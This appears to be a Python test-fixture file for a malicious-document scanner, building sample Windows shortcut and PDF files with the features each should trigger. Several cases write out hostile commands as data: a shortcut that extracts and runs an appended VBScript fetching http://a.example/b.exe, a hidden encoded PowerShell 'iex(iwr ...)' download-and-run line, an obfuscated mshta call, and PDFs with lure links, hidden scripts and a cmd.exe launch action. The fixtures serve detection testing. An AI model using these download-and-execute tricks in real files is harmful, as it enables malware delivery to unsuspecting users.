"""formats_cases.py - samples of documents, and what is true of them."""

import lnk
import pdf

CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


class Case:
    """A sample; every feature of its reader that is not zero, and every
    address; `roughly` are features within bounds."""

    def __init__(self, reader, name, data, addresses=(), roughly=None,
                 **features):
        self.reader = reader
        self.name = name
        self.data = data
        self.addresses = list(addresses)
        self.roughly = roughly or {}
        self.features = {f"{reader}.{key}": value
                         for key, value in features.items()}


def lnk_cases():
    yield Case("lnk", "a plain shortcut", lnk.link())
    yield Case("lnk", "a shortcut to a share", lnk.link(
        "letter.docx", share=r"\\server\files", tracker=True),
        target_remote=1)
    # The mail of April 2022.
    arguments = (r'/v:on /c findstr "rSIPPsw.*" Password2.doc.lnk > '
                 r'"%tmp%\VEuIqlISMa.vbs" & "%tmp%\VEuIqlISMa.vbs"')
    appended = (b'\r\nrSIPPsw:: Set x = CreateObject("WScr" & "ipt.Shell")'
                b'\r\nx.run "http://a.example/b.exe"')
    yield Case("lnk", "a script cut out of the shortcut", lnk.link(
        CMD, arguments=arguments, icon="shell32.dll", show=lnk.MINIMISED,
        size=0, appended=appended), ["http://a.example/b.exe"],
        arguments=len(arguments), blanks=1, interpreters=1,
        target_interpreter=1, target_empty=1, icon_differs=1, minimised=1,
        appended=len(appended), appended_runs=1, place_words=2, file_words=3,
        cut_words=1)
    yield Case("lnk", "an encoded command", lnk.link(
        POWERSHELL, arguments="-nop -w hidden -e SQBFAFgA" + " " * 50
        + "iex(iwr https://b.example/c)", unicode=False),
        ["https://b.example/c"], arguments=26 + 50 + 28, blanks=50,
        interpreters=1, target_interpreter=1, execute_words=1,
        download_words=1, encode_words=1, hide_words=3, urls=1)
    yield Case("lnk", "variables and marks", lnk.link(
        "", environment="%comspec%", with_items=False, with_info=False,
        arguments="/c ms^ht^a http://c.example/d.hta"),
        ["http://c.example/d.hta"], arguments=33, blanks=1,
        interpreters=1, target_interpreter=1, environment=1, urls=1,
        execute_words=1, file_words=1, split_words=3)
    cut = lnk.link(arguments="x" * 100)
    yield Case("lnk", "cut off", cut[:-40], arguments=82, broken=1)


def pdf_cases():
    yield Case("pdf", "two pages", pdf.document(2, "Hello"), pages=2)
    yield Case("pdf", "one page of text", pdf.document(
        1, "x" * 500, links=[("https://example.com/a", (0, 0, 61.2, 79.2))]),
        ["https://example.com/a"], pages=1, text_bytes=500, links=1,
        link_hosts=1, link_cover=0.01)
    yield Case("pdf", "a lure", pdf.document(
        1, "View document", images=1,
        links=[("http://10.0.0.1/x.zip", (0, 0, 612, 396)),
               ("http://a.example/y", (0, 0, 1, 1)),
               ("http://a.example/z", (0, 0, 1, 1))]),
        ["http://10.0.0.1/x.zip", "http://a.example/y",
         "http://a.example/z"], pages=1, images=1, text_bytes=13, links=3,
        link_hosts=2, numeric_links=1, file_links=1, link_cover=0.5, lure=1)
    yield Case("pdf", "a script behind numbers", pdf.document(
        1, "a", script="app.alert(1)", hide_names=True), pages=1,
        text_bytes=1, obfuscated=3)
    yield Case("pdf", "a script in an object stream", pdf.document(
        3, "a", script="app.alert(1)", object_streams=True,
        links=[("https://example.com/", (0, 0, 6.12, 7.92))],
        files=[("note.txt", b"a"), ("run.vbs", b"b")]),
        ["https://example.com/"], pages=3, links=1, link_hosts=1,
        link_cover=0.0001, risky_files=1, hidden_actions=1)
    yield Case("pdf", "a program that is started", pdf.document(
        2, "a", launch="cmd.exe", before=b"junk\n", behind=b"\0" * 9),
        pages=2, header_offset=5, trailing_bytes=9)
    yield Case("pdf", "a form that is sent", pdf.document(
        2, submit="https://a.example/", xfa=True), pages=2, submit_forms=1)
    yield Case("pdf", "another file", pdf.document(
        2, remote="\\\\server\\a.pdf", colors=1 << 25), pages=2,
        remote_actions=1, colors=1)
    yield Case("pdf", "an encrypted one", pdf.document(
        1, "a", encrypted=True,
        links=[("http://a.example/", (0, 0, 612, 792))]),
        pages=1, links=1, link_cover=1)


def all_cases():
    return [*lnk_cases(), *pdf_cases()]
